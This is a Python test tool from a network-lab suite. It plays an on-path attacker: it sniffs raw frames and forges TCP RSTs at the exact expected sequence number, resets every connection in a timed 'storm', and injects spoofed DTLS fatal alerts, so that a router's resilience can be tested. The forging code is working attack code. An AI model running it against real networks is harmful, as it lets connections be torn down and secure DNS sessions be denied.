"""An on-path attacker in the NAT namespace: forged TCP RSTs and DTLS alerts.

Run inside the nat namespace of tests.tools.netlab (`ip netns exec NAT python -m
tests.tools.wire_attacker ...`). It reads every frame on in0 (the router's side
of the NAT, after de-NAT) with an AF_PACKET socket and writes forged frames
onto the same link with that socket, so they reach the router's wan0 as if
the upstream had sent them (netfilter never sees them):

  rst --ports 8853 [--flows 1]
      the next server segment of a flow from one of those server ports gives
      the sequence number the router expects next; a RST from the server's
      address and port with exactly that number goes out (RFC 5961: a RST at
      rcv_nxt is accepted, one merely in the window only draws a challenge
      ACK). If the server's next segment was already on its way (a lost race),
      the RST is sent again with the newer number, at most RETRIES times.
  storm --ports 8853,8857 --seconds N [--after-ms MS]
      for N seconds every connection is reset: those open when it starts at
      their next server segment, every new one (its SYN-ACK seen) at the
      first server segment at least MS after the SYN-ACK (0: at the SYN-ACK
      itself, before TLS can start).
  dtls-alert --ports 8855 [--count 1]
      a plaintext fatal alert record (what a DTLS server that lost our state
      sends, dprive.core.dtls_record.alert_record) in a UDP datagram from the
      gateway's address and port to the router's port, learnt from the
      router's last datagram to it.

Each action is printed as one JSON line (event "rst", "alert", "flow"), and a
final {"event": "done", ...} with the totals; progress goes to stdout, flushed.
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

from dprive.core import dtls_record

ETH_P_ALL = 0x0003       # outgoing frames reach only ETH_P_ALL taps
PACKET_OUTGOING = 4
RETRIES = 4
TCP_FIN, TCP_SYN, TCP_RST, TCP_ACK = 0x01, 0x02, 0x04, 0x10


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_header(src, dst, proto, payload_len):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, 0, 0x4000, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def _pseudo(src, dst, proto, length):
    return socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, proto, length)


def tcp_rst(src, sport, dst, dport, seq):
    """An IPv4 packet: a bare RST (no ACK, so the ack field means nothing)."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, TCP_RST, 0, 0, 0)
    csum = checksum(_pseudo(src, dst, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    return ip_header(src, dst, 6, len(tcp)) + tcp


def udp_datagram(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    csum = checksum(_pseudo(src, dst, 17, len(udp)) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    return ip_header(src, dst, 17, len(udp)) + udp


def parse(frame):
    """(ip_src, ip_dst, proto, sport, dport, seq, flags, payload_len) of an IPv4
    TCP/UDP frame, else None."""
    if len(frame) < 34 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 0x0F) * 4
    total = struct.unpack("!H", ip[2:4])[0]
    proto = ip[9]
    src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
    l4 = ip[ihl:total]
    if proto == 6 and len(l4) >= 20:
        sport, dport, seq = struct.unpack("!HHI", l4[:8])
        off = (l4[12] >> 4) * 4
        return src, dst, proto, sport, dport, seq, l4[13], len(l4) - off
    if proto == 17 and len(l4) >= 8:
        sport, dport = struct.unpack("!HH", l4[:4])
        return src, dst, proto, sport, dport, None, 0, len(l4) - 8
    return None


class Link:
    """The AF_PACKET socket on one device: frames in both directions, and a way out."""

    def __init__(self, dev, peer_mac):
        self.dev = dev
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((dev, 0))
        self.sock.setblocking(False)
        own_mac = self.sock.getsockname()[4]
        self.eth = bytes.fromhex(peer_mac.replace(":", "")) + own_mac + b"\x08\x00"

    def frames(self, until):
        """(pkttype, frame) until the monotonic time self.until (set from `until`;
        the caller may bring it forward)."""
        self.until = until
        while True:
            left = self.until - time.monotonic()
            if left <= 0:
                return
            ready, _, _ = select.select([self.sock], [], [], min(left, 0.2))
            if not ready:
                continue
            while True:
                try:
                    frame, addr = self.sock.recvfrom(65535)
                except BlockingIOError:
                    break
                yield addr[2], frame

    def send(self, packet):
        self.sock.send(self.eth + packet)


def emit(**event):
    print(json.dumps(event, sort_keys=True), flush=True)


def _server_segment(pkttype, fields, ports, client):
    """A TCP segment from one of the server ports to the client, leaving on this link."""
    return (fields is not None and pkttype == PACKET_OUTGOING and fields[2] == 6
            and fields[3] in ports and fields[1] == client and not fields[6] & TCP_RST)


def _next_seq(fields):
    seq, flags, length = fields[5], fields[6], fields[7]
    return (seq + length + (1 if flags & TCP_SYN else 0) + (1 if flags & TCP_FIN else 0)) & 0xFFFFFFFF


def run_rst(link, args):
    """Reset `args.flows` flows, each at its next server segment."""
    until = time.monotonic() + args.timeout
    flows = {}                    # (server port, client port) -> RSTs sent
    for pkttype, frame in link.frames(until):
        fields = parse(frame)
        if not _server_segment(pkttype, fields, args.ports, args.client):
            continue
        key = (fields[3], fields[4])
        if key not in flows and len(flows) >= args.flows:
            continue
        sent = flows.get(key, 0)
        if sent >= RETRIES or (sent == 0 and fields[6] & TCP_SYN):
            continue               # a new connection is not the flow we were sent for
        seq = _next_seq(fields)
        link.send(tcp_rst(fields[0], fields[3], fields[1], fields[4], seq))
        flows[key] = sent + 1
        emit(event="rst", server_port=key[0], client_port=key[1], seq=seq, attempt=sent + 1)
        if len(flows) >= args.flows and all(n >= 1 for n in flows.values()):
            # keep watching briefly for a lost race (the server's next segment)
            link.until = min(link.until, time.monotonic() + 0.3)
    emit(event="done", flows=len(flows), rsts=sum(flows.values()))
    return 0 if flows else 1


def run_storm(link, args):
    until = time.monotonic() + args.seconds
    born = {}                     # (server port, client port) -> SYN-ACK time
    sent = {}
    per_port = dict((p, 0) for p in args.ports)
    for pkttype, frame in link.frames(until):
        fields = parse(frame)
        if not _server_segment(pkttype, fields, args.ports, args.client):
            continue
        key = (fields[3], fields[4])
        now = time.monotonic()
        if fields[6] & TCP_SYN or key not in born:
            # a new connection, or one open before the storm (reset at once)
            if key not in born:
                per_port[key[0]] += 1
                emit(event="flow", server_port=key[0], client_port=key[1])
            born[key] = now if fields[6] & TCP_SYN else float("-inf")
            sent[key] = 0
        if key not in born or sent[key] >= RETRIES or now - born[key] < args.after_ms / 1000.0:
            continue
        seq = _next_seq(fields)
        link.send(tcp_rst(fields[0], fields[3], fields[1], fields[4], seq))
        sent[key] += 1
    emit(event="done", flows=len(born), rsts=sum(sent.values()),
         flows_per_port=dict((str(p), n) for p, n in per_port.items()))
    return 0


def run_alert(link, args):
    """Learn the router's port from its datagrams to the gateway, then forge alerts."""
    until = time.monotonic() + args.timeout
    alerts = 0
    for pkttype, frame in link.frames(until):
        fields = parse(frame)
        if fields is None or fields[2] != 17 or pkttype == PACKET_OUTGOING:
            continue
        if fields[0] != args.client or fields[4] not in args.ports:
            continue
        record = dtls_record.alert_record(dtls_record.ALERT_FATAL,
                                          dtls_record.ALERT_UNEXPECTED_MESSAGE, 0)
        link.send(udp_datagram(fields[1], fields[4], fields[0], fields[3], record))
        alerts += 1
        emit(event="alert", server_port=fields[4], client_port=fields[3])
        if alerts >= args.count:
            break
    emit(event="done", alerts=alerts)
    return 0 if alerts else 1


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("mode", choices=["rst", "storm", "dtls-alert"])
    ap.add_argument("--dev", default="in0")
    ap.add_argument("--peer-mac", required=True, help="the router's wan0 MAC")
    ap.add_argument("--client", required=True, help="the router's address (after de-NAT)")
    ap.add_argument("--ports", required=True, type=lambda s: set(int(p) for p in s.split(",")))
    ap.add_argument("--flows", type=int, default=1)
    ap.add_argument("--count", type=int, default=1)
    ap.add_argument("--timeout", type=float, default=10.0)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--after-ms", type=float, default=0.0)
    args = ap.parse_args(argv)
    link = Link(args.dev, args.peer_mac)
    emit(event="ready")
    return {"rst": run_rst, "storm": run_storm, "dtls-alert": run_alert}[args.mode](link, args)


if __name__ == "__main__":
    sys.exit(main())
